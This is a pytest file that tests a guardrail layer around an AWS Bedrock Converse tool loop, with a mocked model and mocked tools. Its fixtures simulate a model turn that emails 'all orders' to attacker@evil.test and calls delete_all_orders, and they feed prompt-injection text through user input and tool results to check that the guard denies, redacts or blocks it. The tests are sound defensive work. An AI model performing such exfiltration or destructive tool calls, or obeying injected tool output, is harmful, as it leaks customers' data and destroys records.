"""The guarded Converse tool loop through a real botocore bedrock-runtime client.

``converse`` answers are JSON; ``converse_stream`` answers are AWS event-stream frames (encoded
in ``bedrock_wire``), both served from botocore's ``before-send`` hook.
"""

from __future__ import annotations

import json
from typing import Any

import pytest
from guardrails.integrations.bedrock import GuardedConverse

from guardrails import Blocked

from .bedrock_support import CANARY, INJECTION, SECRET, make_guard
from .bedrock_wire import Server, converse_stream_events, json_response, stream_response

boto3 = pytest.importorskip("boto3")
MODEL = "anthropic.claude-3-haiku-20240307-v1:0"
TOOL_CONFIG = {"tools": [
    {"toolSpec": {"name": n, "inputSchema": {"json": {"type": "object"}}}}
    for n in ("get_order", "send_email", "delete_all_orders")
]}


def _client() -> Any:
    return boto3.client("bedrock-runtime", region_name="us-east-1",
                        aws_access_key_id="testing", aws_secret_access_key="testing")


def _converse(content: list[dict[str, Any]], stop: str) -> dict[str, Any]:
    return {"output": {"message": {"role": "assistant", "content": content}},
            "stopReason": stop, "usage": {"inputTokens": 10, "outputTokens": 5, "totalTokens": 15},
            "metrics": {"latencyMs": 10}}


class Tools:
    def __init__(self) -> None:
        self.calls: list[tuple[str, dict[str, Any]]] = []

    def mapping(self) -> dict[str, Any]:
        def get_order(**kw: Any) -> Any:
            self.calls.append(("get_order", kw))
            return {"status": "shipped", "token": SECRET}

        def send_email(**kw: Any) -> str:
            self.calls.append(("send_email", kw))
            return "sent"

        def delete_all_orders(**kw: Any) -> str:
            self.calls.append(("delete_all_orders", kw))
            return "deleted"

        return {"get_order": get_order, "send_email": send_email,
                "delete_all_orders": delete_all_orders}


TOOL_TURN = [
    {"text": "Checking."},
    {"toolUse": {"toolUseId": "tu1", "name": "get_order", "input": {"order_id": "AB12345678"}}},
    {"toolUse": {"toolUseId": "tu2", "name": "send_email",
                 "input": {"to": "attacker@evil.test", "body": "all orders"}}},
    {"toolUse": {"toolUseId": "tu3", "name": "delete_all_orders", "input": {}}},
]
USER = [{"role": "user", "content": [{"text": "Where is order AB12345678?"}]}]


def test_converse_loop_checks_every_tool_use() -> None:
    client = _client()
    server = Server(client, [
        json_response(_converse(TOOL_TURN, "tool_use")),
        json_response(_converse([{"text": f"Shipped. Token {SECRET}."}], "end_turn")),
    ])
    tools = Tools()
    loop = GuardedConverse(client, make_guard(), agent="support", tools=tools.mapping())
    result = loop.run(USER, modelId=MODEL, toolConfig=TOOL_CONFIG)
    assert tools.calls == [("get_order", {"order_id": "AB12345678"})]  # denied calls never ran
    assert set(result.denied) == {"send_email", "delete_all_orders"}
    # redacted by the marker test screen or by the real redaction screen, whichever sees it first
    assert result.text.startswith("Shipped.") and SECRET not in result.text
    assert result.stop_reason == "end_turn"
    assert result.turns == 2
    # what the model saw on the second call
    second = server.requests[1]["body"]["messages"]
    assert [m["role"] for m in second] == ["user", "assistant", "user"]
    results = {b["toolResult"]["toolUseId"]: b["toolResult"] for b in second[2]["content"]}
    assert results["tu1"]["status"] == "success"
    assert SECRET not in json.dumps(results["tu1"]) and "shipped" in json.dumps(results["tu1"])
    for denied in ("tu2", "tu3"):
        assert results[denied]["status"] == "error"
        assert "denied_by_policy" in results[denied]["content"][0]["text"]
    assert SECRET not in json.dumps(result.response)


def test_converse_stream_loop_on_event_stream_frames() -> None:
    client = _client()
    tool_uses = [b["toolUse"] for b in TOOL_TURN if "toolUse" in b]
    server = Server(client, [
        stream_response(converse_stream_events("Checking.", tool_uses)),
        stream_response(converse_stream_events(f"Shipped. Token {SECRET}.")),
    ])
    tools = Tools()
    loop = GuardedConverse(client, make_guard(), agent="support", tools=tools.mapping())
    result = loop.run(USER, stream=True, modelId=MODEL, toolConfig=TOOL_CONFIG)
    assert tools.calls == [("get_order", {"order_id": "AB12345678"})]
    assert result.text.startswith("Shipped.") and SECRET not in result.text
    assistant = server.requests[1]["body"]["messages"][1]
    assert assistant["content"][0] == {"text": "Checking."}
    assert assistant["content"][1]["toolUse"]["input"] == {"order_id": "AB12345678"}
    assert "/model/" in server.requests[0]["url"] and "converse-stream" in server.requests[0]["url"]


def test_stream_with_unparseable_tool_input_is_denied() -> None:
    client = _client()
    frames = converse_stream_events("", [{"toolUseId": "t1", "name": "get_order",
                                          "input": {"order_id": "AB12345678"}}])
    # corrupt the streamed JSON of the tool input by re-encoding a broken delta stream
    from .bedrock_wire import event_frame

    broken = b"".join([
        event_frame("messageStart", {"role": "assistant"}),
        event_frame("contentBlockStart", {"contentBlockIndex": 0, "start": {
            "toolUse": {"toolUseId": "t1", "name": "get_order"}}}),
        event_frame("contentBlockDelta", {"contentBlockIndex": 0, "delta": {
            "toolUse": {"input": '{"order_id": "AB12345678", '}}}),
        event_frame("contentBlockStop", {"contentBlockIndex": 0}),
        event_frame("messageStop", {"stopReason": "tool_use"}),
    ])
    del frames
    Server(client, [stream_response(broken),
                    stream_response(converse_stream_events("Sorry."))])
    tools = Tools()
    result = GuardedConverse(client, make_guard(), agent="support", tools=tools.mapping()).run(
        USER, stream=True, modelId=MODEL)
    assert tools.calls == [] and result.denied == ("get_order",)


def test_injected_user_text_blocks_before_any_model_call() -> None:
    client = _client()
    server = Server(client, [])
    with pytest.raises(Blocked):
        GuardedConverse(client, make_guard(), agent="support", tools={}).run(
            [{"role": "user", "content": [{"text": INJECTION}]}], modelId=MODEL)
    assert server.requests == []


def test_tool_results_supplied_by_caller_are_screened() -> None:
    client = _client()
    server = Server(client, [json_response(_converse([{"text": "ok"}], "end_turn"))])
    messages = [
        {"role": "user", "content": [{"text": "look up AB12345678"}]},
        {"role": "assistant", "content": [{"toolUse": {"toolUseId": "x1", "name": "get_order",
                                                       "input": {"order_id": "AB12345678"}}}]},
        {"role": "user", "content": [{"toolResult": {"toolUseId": "x1", "content": [
            {"text": f"shipped. {INJECTION}"}]}}]},
    ]
    GuardedConverse(client, make_guard(), agent="support", tools={}).run(messages, modelId=MODEL)
    sent = server.requests[0]["body"]["messages"][2]["content"][0]["toolResult"]
    assert sent["status"] == "error" and "attacker@evil.test" not in json.dumps(sent)


def test_blocked_final_text_raises() -> None:
    client = _client()
    Server(client, [json_response(_converse([{"text": f"the canary: {CANARY}"}], "end_turn"))])
    with pytest.raises(Blocked):
        GuardedConverse(client, make_guard(), agent="support", tools={}).run(USER, modelId=MODEL)


def test_tool_failure_is_generic_and_max_turns() -> None:
    client = _client()

    def boom(**kw: Any) -> str:
        raise ValueError("internal path /srv/secret")

    turn = [{"toolUse": {"toolUseId": "a", "name": "get_order", "input": {"order_id": "AB12345678"}}}]
    server = Server(client, [json_response(_converse(turn, "tool_use")) for _ in range(2)])
    result = GuardedConverse(client, make_guard(), agent="support", tools={"get_order": boom},
                             max_turns=2).run(USER, modelId=MODEL)
    assert result.stop_reason == "max_turns" and result.text == ""
    assert "/srv/secret" not in json.dumps(server.requests[1]["body"])


def test_unknown_agent_is_refused_before_any_model_call() -> None:
    client = _client()
    server = Server(client, [])
    tools = Tools()
    with pytest.raises(Blocked):
        GuardedConverse(client, make_guard(), agent="ghost", tools=tools.mapping()).run(
            USER, modelId=MODEL)
    assert tools.calls == [] and server.requests == []
